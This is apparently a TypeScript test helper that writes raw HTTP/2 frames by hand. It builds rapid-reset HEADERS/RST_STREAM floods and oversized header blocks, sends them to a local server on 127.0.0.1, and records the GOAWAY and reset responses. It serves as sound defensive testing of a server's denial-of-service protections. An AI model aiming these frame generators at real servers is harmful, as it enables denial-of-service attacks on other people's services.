// Raw HTTP/2 frames written by hand (RFC 9113), for attack tests that no well-behaved client
// library can produce: rapid reset, CONTINUATION floods, oversized header blocks, window
// overflow, frames on closed streams, a bad preface. Also a reader that reports GOAWAY and
// RST_STREAM frames and when the server closed the connection.
import { connect, type Socket } from 'node:net';

/** The client connection preface. */
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

/** Frame types and flags used here. */
export const T = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 } as const;
/** END_STREAM (DATA, HEADERS). */
export const END_STREAM = 0x1;
/** END_HEADERS (HEADERS, CONTINUATION). */
export const END_HEADERS = 0x4;

/** One frame: 9-byte header then the payload. */
export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

/** An HPACK literal (never indexed, new name) for `name: value` (both shorter than 127 bytes). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x10, name.length]), Buffer.from(name, 'latin1'), Buffer.from([value.length]), Buffer.from(value, 'latin1')]);
}

/** A request header block: GET http `path` with `authority`, from HPACK's static table where possible. */
export function requestBlock(authority: string, path = '/'): Buffer {
  const parts = [Buffer.from([0x82, 0x86])]; // :method GET, :scheme http
  parts.push(path === '/' ? Buffer.from([0x84]) : Buffer.concat([Buffer.from([0x04, path.length]), Buffer.from(path, 'latin1')])); // :path
  parts.push(Buffer.concat([Buffer.from([0x01, authority.length]), Buffer.from(authority, 'latin1')])); // :authority, literal without indexing
  return Buffer.concat(parts);
}

/** A header block of about `bytes` bytes: the request plus padding headers of 100-byte values. */
export function bigBlock(authority: string, bytes: number): Buffer {
  const parts = [requestBlock(authority)];
  let n = parts[0]!.length;
  for (let i = 0; n < bytes; i++) {
    const l = literal(`x-pad-${i}`, 'v'.repeat(100));
    parts.push(l);
    n += l.length;
  }
  return Buffer.concat(parts);
}

/** The client's opening: preface and an empty SETTINGS frame. */
export function opening(): Buffer {
  return Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0)]);
}

/** `pairs` HEADERS (END_STREAM|END_HEADERS) + RST_STREAM(CANCEL) pairs on streams 1, 3, 5, ... */
export function rapidReset(authority: string, pairs: number, firstStream = 1): Buffer {
  const block = requestBlock(authority);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(8); // CANCEL
  const out: Buffer[] = [];
  for (let i = 0; i < pairs; i++) {
    const id = firstStream + 2 * i;
    out.push(frame(T.HEADERS, END_STREAM | END_HEADERS, id, block), frame(T.RST_STREAM, 0, id, rst));
  }
  return Buffer.concat(out);
}

/** What the server sent back on one raw connection. */
export interface Observed {
  /** GOAWAY error code, or undefined when none came. */
  goaway: number | undefined;
  /** Milliseconds from the first write to the GOAWAY. */
  goawayMs: number | undefined;
  /** RST_STREAM error codes by stream id. */
  resets: Map<number, number>;
  /** HEADERS frames received (responses). */
  responses: number;
  /** Milliseconds from the first write until the server closed the connection (undefined: still open at the end). */
  closedMs: number | undefined;
  /** Milliseconds from the GOAWAY to the close. */
  closeAfterGoawayMs: number | undefined;
}

/**
 * Opens a connection to 127.0.0.1:`port`, writes `bytes` (all at once, or each piece of an array
 * as the socket drains), and watches the frames coming back until the server closes the
 * connection or `maxMs` passed.
 */
export function attack(port: number, bytes: Buffer | Buffer[], maxMs: number): Promise<Observed> {
  return new Promise((resolve) => {
    const s: Socket = connect(port, '127.0.0.1');
    const o: Observed = { goaway: undefined, goawayMs: undefined, resets: new Map(), responses: 0, closedMs: undefined, closeAfterGoawayMs: undefined };
    let t0 = 0;
    let buf: Buffer = Buffer.alloc(0);
    let timedOut = false;
    const timer = setTimeout(() => { timedOut = true; s.destroy(); }, maxMs);
    s.on('connect', () => {
      t0 = performance.now();
      const pieces = Array.isArray(bytes) ? [...bytes] : [bytes];
      const next = (): void => {
        while (pieces.length > 0) {
          if (!s.write(pieces.shift()!)) { s.once('drain', next); return; }
        }
      };
      next();
    });
    s.on('data', (d: Buffer) => {
      buf = buf.length === 0 ? d : Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3]!;
        const id = buf.readUInt32BE(5) & 0x7fffffff;
        const p = buf.subarray(9, 9 + len);
        if (type === T.GOAWAY && o.goaway === undefined) { o.goaway = p.readUInt32BE(4); o.goawayMs = performance.now() - t0; }
        else if (type === T.RST_STREAM) o.resets.set(id, p.readUInt32BE(0));
        else if (type === T.HEADERS) o.responses++;
        buf = buf.subarray(9 + len);
      }
    });
    s.on('error', () => {});
    s.on('close', () => {
      clearTimeout(timer);
      const now = performance.now() - t0;
      // Closed by the server only when our own timer did not fire first (it runs from before the connect, so `now` alone cannot tell).
      if (!timedOut && now < maxMs) {
        o.closedMs = now;
        if (o.goawayMs !== undefined) o.closeAfterGoawayMs = now - o.goawayMs;
      }
      resolve(o);
    });
  });
}

/** HTTP/2 error codes by name. */
export const ERR = { NO_ERROR: 0, PROTOCOL_ERROR: 1, INTERNAL_ERROR: 2, FLOW_CONTROL_ERROR: 3, STREAM_CLOSED: 5, FRAME_SIZE_ERROR: 6, REFUSED_STREAM: 7, CANCEL: 8, COMPRESSION_ERROR: 9, ENHANCE_YOUR_CALM: 11 } as const;
